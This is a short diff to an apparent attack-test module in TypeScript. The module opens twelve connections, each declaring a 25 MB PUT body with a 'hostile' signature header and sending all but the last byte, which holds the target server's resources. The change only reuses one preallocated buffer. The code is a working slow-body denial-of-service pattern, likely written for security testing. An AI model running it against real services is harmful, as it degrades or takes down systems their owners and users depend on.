@@ -6,6 +6,8 @@ import { attackersAddress } from "../requests.ts";
 /** As in the row: so many files of 25 MB, whose last byte does not come. */
 const CONNECTIONS = 12;
 const SIZE_BYTES = 25 * 1024 * 1024;
+/** One for all: what an attacker's memory costs is nothing to whom it attacks. */
+const ALMOST_ALL = Buffer.alloc(SIZE_BYTES - 1);
 const HASH = "0123456789abcdef0123456789abcdef";
 
 export const attack: Attack = {
@@ -48,6 +50,6 @@ function holdOne(edgeUrl: string, signal: AbortSignal): Promise<string> {
       `PUT ${path} HTTP/1.1\r\nhost: ${host}\r\ncontent-length: ${SIZE_BYTES}\r\n` +
         `larder-signature: v1 hostile 1 00\r\n\r\n`,
     );
-    socket.write(Buffer.alloc(SIZE_BYTES - 1));
+    socket.write(ALMOST_ALL);
   });
 }
